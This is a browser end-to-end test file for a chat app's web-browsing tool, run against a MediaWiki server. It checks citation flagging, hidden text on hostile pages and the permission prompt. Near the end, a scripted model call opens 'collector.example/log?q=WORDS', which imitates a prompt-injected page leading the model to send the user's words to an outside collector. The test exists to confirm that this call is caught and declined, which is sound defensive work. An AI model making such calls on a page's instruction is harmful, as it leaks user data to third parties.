// The browser in the page, under the app's own policies, against a real MediaWiki; the model is scripted. Requests to any
// other host fail the test.
import { HOSTILE } from '../scripts/wiki/hostile';
import { subjects } from '../scripts/wiki/subjects';
import { startWiki, whyNoWiki, type Wiki } from '../scripts/wiki/wiki';
import { expect, test } from './pages/test';

const why = whyNoWiki();
test.skip(why !== undefined, `no MediaWiki: ${why}`);

const [en, zh] = [subjects('en'), subjects('zh')];
const MILL = en[2];
const [founded, , rooms] = MILL.facts;
let wiki: Wiki;
test.beforeAll(async () => {
  test.setTimeout(180_000);
  if (!why) wiki = await startWiki([...en, ...zh, ...HOSTILE]);
});
test.afterAll(() => wiki?.close());

test('settings, permission, search, pages; a mark shows the sentence, one that the page does not say is marked', async ({
  chat,
  allowOrigin,
}) => {
  const { page } = chat;
  allowOrigin(wiki.url);
  await chat.openReady('./?answer=at-once&browser');
  await chat.openSettings();
  await page.getByText('Where it searches').click();
  await page.getByLabel('Search', { exact: true }).selectOption('Another wiki (MediaWiki)');
  await page.getByLabel('Address', { exact: true }).fill(`${wiki.url}/index.php`);
  await page.keyboard.press('Enter');
  await page.keyboard.press('Escape');
  await page.getByRole('button', { name: /^Tools: / }).click();
  await page.getByRole('switch', { name: /^Browser/ }).check();
  await page.keyboard.press('Escape');

  const wrong = rooms.wrong.replace(/\.$/, '');
  const said = founded.sentence.replace(/\.$/, '');
  await chat.send(
    `say\n☎simple_browser:search("${MILL.title}")☎☎simple_browser:mclick([0])☎${said}【7†source】. ${wrong}【7†source】. It is nice【99†source】.`,
  );
  const prompt = page.getByRole('group', { name: 'Run this?' });
  await expect(prompt).toContainText(new URL(wiki.url).host);
  expect(wiki.requests.filter((path) => path.includes('srsearch'))).toEqual([]);
  await prompt.getByRole('button', { name: 'Once' }).click();
  await chat.answerEnds();

  const answer = chat.answers.last();
  const cards = answer.getByRole('group', { name: 'Browser', exact: true });
  await expect(cards).toHaveCount(2);
  await expect(cards.nth(1).getByRole('button').first()).toContainText('1 page read');
  const good = answer.getByRole('button', { name: `Source 7: ${MILL.title}`, exact: true });
  const doubtful = answer.getByRole('button', {
    name: `Source 7: ${MILL.title}. The page may not say this.`,
  });
  await expect(doubtful).toHaveText('7?');
  await expect(answer.getByText('1 of 3 sentences')).toBeVisible();

  await good.press('Enter');
  const card = page.getByRole('dialog', { name: 'Source 7' });
  await expect(card.getByRole('blockquote')).toHaveText(founded.sentence);
  await expect(card).toContainText(/Read .*\d{4}/);
  await expect(card.getByRole('link')).toHaveAttribute('href', new RegExp(`^${wiki.url}/`));
  await page.keyboard.press('Escape');
  await expect(good).toBeFocused();
  await doubtful.click();
  await expect(card).toContainText(/may not say this: not in it: \d+/);
  await page.keyboard.press('Escape');
  await answer.getByRole('button', { name: 'Source 99. The page may not say this.' }).click();
  await expect(page.getByRole('dialog', { name: 'Source 99' })).toContainText(
    'No page of this chat has the number 99',
  );
});

test('search first: a query in the question’s words, pages, and an answer; a hostile page makes no request', async ({
  chat,
  allowOrigin,
}) => {
  const { page } = chat;
  allowOrigin(wiki.url);
  await page.addInitScript(
    ([key, url]) =>
      localStorage.setItem(key, JSON.stringify({ browser: { search: 'wiki', wiki: url, reader: 'jina' } })),
    ['glm-preferences', wiki.url],
  );
  await chat.openReady('./?answer=at-once&browser');
  const mode = page.getByRole('button', { name: 'Search first and cite' });
  await mode.click();
  await expect(mode).toHaveAttribute('aria-pressed', 'true');
  await chat.send('Old Ferry');
  const prompt = page.getByRole('group', { name: 'Run this?' });
  await prompt.getByRole('button', { name: 'Once' }).click();
  await chat.answerEnds();
  const cards = chat.answers.last().getByRole('group', { name: 'Browser', exact: true });
  await cards.nth(1).getByRole('button').first().click();
  await expect(cards.nth(1)).toContainText('The Old Ferry crosses the river');
  await expect(cards.nth(1)).not.toContainText('HIDDEN');

  // The model does as the page says: it is asked about, with the whole address and whoever would hear of it.
  await mode.click();
  await page.getByRole('button', { name: /^Tools: / }).click();
  await page.getByRole('switch', { name: /^Browser/ }).check();
  await page.keyboard.press('Escape');
  await chat.send('say\n☎simple_browser:open_url("https://collector.example/log?q=WORDS")☎Done.');
  await expect(prompt).toContainText('r.jina.ai, collector.example');
  await expect(prompt.getByRole('button')).toHaveText(['Once', 'No']);
  await prompt.getByRole('button', { name: 'No' }).click();
  await chat.answerEnds();
});
